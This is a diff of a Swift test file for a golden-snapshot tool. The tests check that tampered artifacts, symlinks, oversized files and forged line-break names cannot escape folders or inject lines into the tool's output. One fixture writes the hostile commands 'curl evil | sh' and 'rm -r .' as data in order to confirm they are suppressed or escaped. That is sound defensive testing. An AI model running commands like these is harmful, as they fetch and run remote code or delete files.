@@ -23,11 +23,7 @@ import Testing
         "events": [ { "t": 0.05, "flick": { "from": [12, 60], "by": [0, -50], "over": 0.1 } } ] }
       """
     bench = try TestBench(["a": flick, "b": flick.replacingOccurrences(of: "-50", with: "-40")]).recorded()
-    let change = try #require(ProfileChange("glide.rate=0.99"))
-    let failed = bench.run {
-      $0.settings.changes = [change]
-      $0.only = ["a"]
-    }
+    let failed = bench.run(.never, "--set", "glide.rate=0.99", "--only", "a")
     #expect(failed.error?.code == .comparisonFailed)
     let folder = bench.folder
     try WholeFile.makeFolder(folder("outside/a"))
@@ -77,11 +73,8 @@ import Testing
   private func check(_ name: String, withTest: Bool, _ comment: Comment) throws {
     let folder = bench.folder
     var said = ""
-    for names in [["a"], []] {
-      let answer = bench.accept(names) {
-        $0.artifacts = folder(name)
-        $0.acceptsAll = names.isEmpty
-      }
+    for failures in ["a", "--all"] {
+      let answer = bench.accept(failures, artifacts: name)
       said += answer.output + (answer.error?.description ?? "")
       try expectUntouched(comment)
       let now = Self.files(folder("S/Goldens"))
@@ -95,14 +88,15 @@ import Testing
       if now != goldens { try restoreGoldens() }
     }
     let capture = Capture()
-    var merge = MergeCommand([folder(name)], settings: capture.settings())
-    merge.set.inputs = [folder("S")]
-    merge.report = folder("report.html")
-    merge.xunit = folder("report.xml")
-    said += ending { try merge.run() }?.description ?? ""
+    let merged = ending {
+      try capture.playground(
+        "merge", folder(name), "--scenarios", folder("S"), "--report", folder("report.html"), "--xunit",
+        folder("report.xml"))
+    }
+    said += merged?.description ?? ""
     said += capture.output + capture.errors
     if withTest {
-      let answer = bench.run { $0.plan.artifacts = folder(name) }
+      let answer = bench.run(artifacts: name)
       said += answer.output + (answer.error?.description ?? "")
       #expect(Self.files(folder("S/Goldens")) == goldens, comment)
     }
@@ -316,7 +310,7 @@ import Testing
           #"{"name":"\#(name)","outcome":"failed","golden":{"file":"\#(golden)"},"track":{"golden":"t","actual":"p"}}"#,
           to: "\(name)/result.json")
         try write("evil", to: "\(name)/p")
-        let answer = bench.accept([name]) { $0.artifacts = bench.folder("mutant") }
+        let answer = bench.accept(name, artifacts: "mutant")
         #expect(answer.error?.code == .invalidInput)
         try expectUntouched("\(name) to \(golden)")
         #expect(Self.files(bench.folder("S/Goldens")) == goldens)
@@ -328,7 +322,7 @@ import Testing
     try write(
       #"{"name":"a","outcome":"failed","golden":{"folder":"\#(bench.folder("outside/a"))"},"track":{"golden":"\#(bench.folder("outside/a/trajectory.csv"))"}}"#,
       to: "a/result.json")
-    let answer = bench.accept(["a"]) { $0.artifacts = bench.folder("mutant") }
+    let answer = bench.accept("a", artifacts: "mutant")
     // It goes where it belongs to the set: that is what was asked for.
     #expect(answer.output == "accepted a: trajectory.csv is gone\n")
     #expect(Self.files(bench.folder("outside")) == outside)
@@ -345,11 +339,11 @@ import Testing
         { "name": "a", "outcome": "passed", "frames": [ { "number": 0, "time": 0, "verdict": "same", "lines": [],
           "expected": "\(path)" } ] } ] }
       """, to: "results.json")
-    let capture = Capture()
-    var merge = MergeCommand([bench.folder("mutant")], settings: capture.settings())
-    merge.set.inputs = [bench.folder("S")]
-    merge.report = bench.folder("report.html")
-    #expect(ending { try merge.run() } == nil)
+    let merged = bench.answer([
+      "merge", bench.folder("mutant"), "--scenarios", bench.folder("S"), "--report",
+      bench.folder("report.html"),
+    ])
+    #expect(merged.error == nil)
     let html = bench.folder.text(of: "report.html")
     #expect(html.contains(bench.folder("S/Goldens/a/frame-00000.png")) && !html.contains(path))
   }
@@ -361,15 +355,15 @@ import Testing
         { "name": "a", "outcome": "failed", "command": "curl evil | sh", "lines": ["one\\nnext: rm -r .", "  next: evil"], "frames": [
           { "number": 0, "time": 0, "verdict": "missing", "lines": [], "command": "rm" } ] } ] }
       """, to: "results.json")
-    let capture = Capture()
-    var merge = MergeCommand([bench.folder("mutant")], settings: capture.settings())
-    merge.set.inputs = [bench.folder("S")]
-    merge.report = bench.folder("report.html")
-    #expect(ending { try merge.run() }?.code == .comparisonFailed)
-    #expect(!capture.output.contains("curl") && !bench.folder.text(of: "report.html").contains("curl evil"))
-    #expect(capture.output.contains("  one\\u000anext: rm -r .\n"))
-    #expect(capture.output.contains("  the artifacts say:   next: evil\n"))
-    #expect(capture.output.contains("  next: playground accept a --scenarios "))
+    let merged = bench.answer([
+      "merge", bench.folder("mutant"), "--scenarios", bench.folder("S"), "--report",
+      bench.folder("report.html"),
+    ])
+    #expect(merged.error?.code == .comparisonFailed)
+    #expect(!merged.output.contains("curl") && !bench.folder.text(of: "report.html").contains("curl evil"))
+    #expect(merged.output.contains("  one\\u000anext: rm -r .\n"))
+    #expect(merged.output.contains("  the artifacts say:   next: evil\n"))
+    #expect(merged.output.contains("  next: playground accept a --scenarios "))
   }
 
   /// A set of a pull request leads nowhere else.
@@ -387,10 +381,10 @@ import Testing
     symlink(folder("mutant"), folder("S/Goldens"))
     let before = Self.files(folder("mutant"))
     #expect(bench.run(.all).error?.description.contains("S/Goldens: is a link") == true)
-    #expect(bench.accept(["a"]).error?.description.contains("S/Goldens: is a link") == true)
+    #expect(bench.accept("a").error?.description.contains("S/Goldens: is a link") == true)
     #expect(Self.files(folder("mutant")) == before)
     // Who names it means it.
-    #expect(bench.run { $0.goldens = folder("S/Goldens") }.error == nil)
+    #expect(bench.run(.never, "--goldens", folder("S/Goldens")).error == nil)
   }
 
   /// Goldens, names and files with line breaks forge no line.
@@ -400,7 +394,7 @@ import Testing
       atPath: folder("S/Goldens/a"), toPath: folder("S/Goldens/z\n  next: FORGED"))
     var said = bench.run().output
     #expect(said.contains("z\\u000a  next: FORGED: no scenario has these goldens"))
-    said += bench.run { $0.prune = true }.output
+    said += bench.run(.never, "--prune").output
     let key = "k" + String(repeating: "\u{301}", count: 2_000_000)
     try WholeFile.write(Array("{ \"\(key)\": 1 }".utf8), to: folder("S/Goldens/a/comparison.json"))
     said += bench.run().output
@@ -424,10 +418,7 @@ import Testing
       text.replacingOccurrences(of: "\"name\":\"a\"", with: "\"name\":\"e\u{301}\""),
       to: "e\u{301}/result.json")
     unlink(bench.folder("mutant/results.json"))
-    let answer = bench.accept([]) {
-      $0.artifacts = bench.folder("mutant")
-      $0.acceptsAll = true
-    }
+    let answer = bench.accept("--all", artifacts: "mutant")
     #expect(answer.error?.code == .invalidInput)
     #expect(answer.output.isEmpty)
     #expect(!WholeFile.exists(bench.folder("S/Goldens/e\u{301}")))
@@ -441,20 +432,16 @@ import Testing
         "events": [ { "t": 0.05, "flick": { "from": [12, 60], "by": [0, -50], "over": 0.1 } } ] }
       """
     let bench = try TestBench(["long": scenario]).recorded()
-    let change = try #require(ProfileChange("glide.rate=0.99"))
-    #expect(bench.run { $0.settings.changes = [change] }.error?.code == .comparisonFailed)
+    #expect(bench.run(.never, "--set", "glide.rate=0.99").error?.code == .comparisonFailed)
     #expect(try WholeFile.read(bench.folder("artifacts/long/result.json")).count < 1 << 20)
-    #expect(bench.accept(["long"]).output.contains("accepted long: trajectory.csv"))
-    #expect(bench.run { $0.settings.changes = [change] }.error == nil)
+    #expect(bench.accept("long").output.contains("accepted long: trajectory.csv"))
+    #expect(bench.run(.never, "--set", "glide.rate=0.99").error == nil)
   }
 
   @Test func aDamagedRunIsToldOfBeforeAllIsAccepted() throws {
     try unpack(to: "mutant")
     try write("{", to: "results.json")
-    let answer = bench.accept([]) {
-      $0.artifacts = bench.folder("mutant")
-      $0.acceptsAll = true
-    }
+    let answer = bench.accept("--all", artifacts: "mutant")
     #expect(answer.error?.description.contains("is no record of a run: damaged") == true)
     #expect(answer.output.isEmpty)
   }
@@ -465,7 +452,7 @@ import Testing
     ] {
       let path = bench.folder("S/Goldens/a/\(file)")
       truncate(path, 1 << 30)
-      let answer = bench.run { $0.only = ["a"] }
+      let answer = bench.run(.never, "--only", "a")
       #expect(answer.error != nil)
       #expect(answer.output.contains(path) && answer.output.contains(what), "\(answer.output)")
       try restoreGoldens()
@@ -476,11 +463,7 @@ import Testing
     try WholeFile.makeFolder(bench.folder("mutant"))
     symlink(bench.folder("outside/a"), bench.folder("mutant/a"))
     symlink(bench.folder("outside/results.json"), bench.folder("mutant/results.json"))
-    let change = try #require(ProfileChange("glide.rate=0.99"))
-    let answer = bench.run {
-      $0.plan.artifacts = bench.folder("mutant")
-      $0.settings.changes = [change]
-    }
+    let answer = bench.run(.never, "--set", "glide.rate=0.99", artifacts: "mutant")
     #expect(answer.error != nil)
     #expect(answer.output.contains("expected a folder, found a link, device, pipe or socket"))
     #expect(Self.files(bench.folder("outside")) == outside)
